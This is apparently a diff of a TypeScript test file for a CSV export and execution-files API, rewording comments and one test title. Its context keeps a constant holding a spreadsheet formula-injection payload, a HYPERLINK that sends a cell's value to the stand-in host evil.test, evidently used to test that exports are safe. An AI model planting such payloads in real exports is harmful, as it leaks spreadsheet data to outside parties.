@@ -7,7 +7,7 @@ import { UNKNOWN_ID } from '../support/registration.js';
 import { startAttempt } from '../support/start-attempt.js';
 
 const HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"click")';
-/** Two pages of the store and a part of a third. */
+/** Two full pages of the store and a part of a third. */
 const MANY = 2300;
 
 let api: TestApi;
@@ -32,7 +32,7 @@ beforeAll(async () => {
 });
 afterAll(() => api.stop());
 
-/** A reader of RFC 4180 that knows nothing of ours. */
+/** Parses RFC 4180 independently of the code under test. */
 function parseCsv(text: string): string[][] {
   const rows: string[][] = [[]];
   for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
@@ -72,7 +72,7 @@ describe('the export', () => {
       }),
     );
     expect(rows).toEqual(values);
-    // What a dry run or a verify found is no cell.
+    // The report of a dry run or a verify has no column.
     expect([...head!, 'report'].toSorted()).toEqual(Object.keys((json.body as object[])[0]!).toSorted());
   });
 
@@ -148,7 +148,7 @@ describe('the files of an execution', () => {
     expect((await get(`${id}/files?status=skipped&limit=1&offset=1`)).body).toEqual({ items: [], total: 1 });
   });
 
-  it('refuse an unknown status, and an unknown execution', async () => {
+  it('are refused for an unknown status, and for an unknown execution', async () => {
     expect((await get(`${UNKNOWN_ID}/files`)).status).toBe(404);
     expect((await get(`${UNKNOWN_ID}/files?status=indexed`)).status).toBe(400);
   });
